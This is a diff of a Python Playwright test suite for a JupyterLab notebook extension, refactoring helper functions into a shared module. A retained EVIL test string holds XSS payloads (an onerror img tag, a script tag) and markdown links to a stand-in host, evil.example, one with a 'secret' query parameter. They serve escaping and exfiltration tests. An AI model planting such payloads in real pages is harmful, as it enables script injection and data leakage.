@@ -5,9 +5,21 @@ import shutil
 import nbformat
 import pytest
 
-from .lab import broken_words, browser, contrasts, lab_server, leftovers, set_theme, step
+from .lab import (
+    broken_words,
+    browser,
+    contrasts,
+    lab_server,
+    leftovers,
+    notebook,
+    run_cell,
+    run_done,
+    set_theme,
+    state_word,
+    step,
+    themed,
+)
 
-KERNELSPEC = {"name": "python3", "display_name": "Python 3 (ipykernel)", "language": "python"}
 EVIL = (
     '<img src=x onerror="window.__pwned=1"> and <script>window.__pwned=2</script>\n\n'
     "![chart](http://evil.example/p.png?q=secret) [docs](http://evil.example/y) "
@@ -33,14 +45,6 @@ def scripted_cell(name, text, delay=0.0):
         f"Engine.default().register_model({name!r}, ScriptedModel(len(tok.get_vocab()), "
         f"script_rule(n, out, tok.eos_token_id), delay_s={delay}), tok)\n'registered'"
     )
-
-
-def notebook(path, tiny_dir, cells):
-    nb = nbformat.v4.new_notebook()
-    nb.metadata["kernelspec"] = KERNELSPEC
-    cells = ["%load_ext mlx_notebook\nTINY = " + repr(tiny_dir), *cells]
-    nb.cells = [nbformat.v4.new_code_cell(c) for c in cells]
-    nbformat.write(nb, path)
 
 
 MAIN = [
@@ -71,90 +75,6 @@ THEMES = [
     "%%chat -n 10 --wait\nAnd what do you do?",  # 8
     "%chat show",  # 9: the transcript, a bubble per message
 ]
-
-
-def run_cell(page, i, tries=4):
-    """Run cell ``i`` the way a user does; retry if the keypress was lost while Lab settled."""
-    cell = page.locator(".jp-Notebook .jp-Cell").nth(i)
-    prompt = cell.locator(".jp-InputPrompt")
-    before = prompt.inner_text().strip()
-    for _ in range(tries):
-        cell.locator(".jp-InputArea-editor").click()
-        page.keyboard.press("Control+Enter")
-        try:
-            step(f"cell {i} starts", lambda: prompt.inner_text().strip() != before, 5)
-            return cell
-        except AssertionError:
-            continue
-    raise AssertionError(f"step 'run cell {i}' stalled: the cell never started")
-
-
-def run_done(page, i, timeout=60):
-    """Run cell ``i`` and wait until its prompt shows an execution count."""
-    cell = run_cell(page, i)
-    step(
-        f"cell {i} finished",
-        lambda: cell.locator(".jp-InputPrompt").inner_text().strip() not in ("[ ]:", "[*]:", ""),
-        timeout,
-    )
-    return cell
-
-
-@pytest.fixture
-def lab(request, tmp_path, tiny_dir, chromium, artifacts):
-    """``lab(cells)`` opens a notebook of those cells; yields the page."""
-    ctx = {}
-
-    def start(cells, kernel=True, prepare=None):
-        root = tmp_path / "root"
-        root.mkdir(exist_ok=True)
-        if prepare is not None:
-            prepare(root)
-        else:
-            notebook(root / "demo.ipynb", tiny_dir, [c.replace("{tiny}", tiny_dir) for c in cells])
-        ctx["server"] = lab_server(root)
-        base, token = ctx["server"].__enter__()
-        ctx["browser"] = browser()
-        b = ctx["browser"].__enter__()
-        page = b.new_page(viewport={"width": 1400, "height": 1000})
-        page.set_default_timeout(30_000)
-        page.requests = []
-        page.on("request", lambda r: page.requests.append(r.url))
-        page.goto(f"{base}/lab/tree/demo.ipynb?token={token}")
-        n = len(nbformat.read(root / "demo.ipynb", as_version=4).cells)
-        step("open the notebook", lambda: page.locator(".jp-Notebook .jp-Cell").count() == n, 90)
-        if kernel:
-            step(
-                "kernel ready",
-                lambda: (
-                    page.locator(".jp-Notebook-ExecutionIndicator[data-status='idle']").count() > 0
-                ),
-                90,
-            )
-        dismiss_news(page)
-        ctx["page"] = page
-        return page
-
-    yield start
-    rep = getattr(request.node, "rep_call", None)
-    if "page" in ctx and rep is not None and rep.failed:
-        ctx["page"].screenshot(path=str(artifacts / f"failure-{request.node.name}.png"))
-    if "browser" in ctx:
-        ctx["browser"].__exit__(None, None, None)
-    if "server" in ctx:
-        ctx["server"].__exit__(None, None, None)
-
-
-def dismiss_news(page):
-    # JupyterLab's first-run "get notified about news?" toast covers part of the page.
-    try:
-        page.get_by_role("button", name="No", exact=True).click(timeout=3000)
-    except Exception:
-        pass
-
-
-def state_word(scope):
-    return scope.locator(".mlxnb .state").first.inner_text()
 
 
 def test_generate_stream_stop_and_escaping(lab, artifacts):
@@ -398,19 +318,6 @@ MANNERS = [
     "%%generate --help",  # 9
     "%%chat --seed 3 --wait\nWhat is the capital of France?",  # 10: the default model
 ]
-
-
-def themed(lab, cells, theme):
-    """Open ``cells`` in ``theme``: the page, the theme's slug, and ``out(i)``."""
-    page = lab(cells)
-    set_theme(page, theme)
-    located = page.locator(".jp-Notebook .jp-Cell")
-
-    def out(i):  # Lab renders cells lazily: bring it on screen first
-        located.nth(i).scroll_into_view_if_needed()
-        return located.nth(i).locator(".jp-OutputArea")
-
-    return page, theme.split()[-1].lower(), out
 
 
 @pytest.mark.parametrize("theme", ["JupyterLab Light", "JupyterLab Dark"])
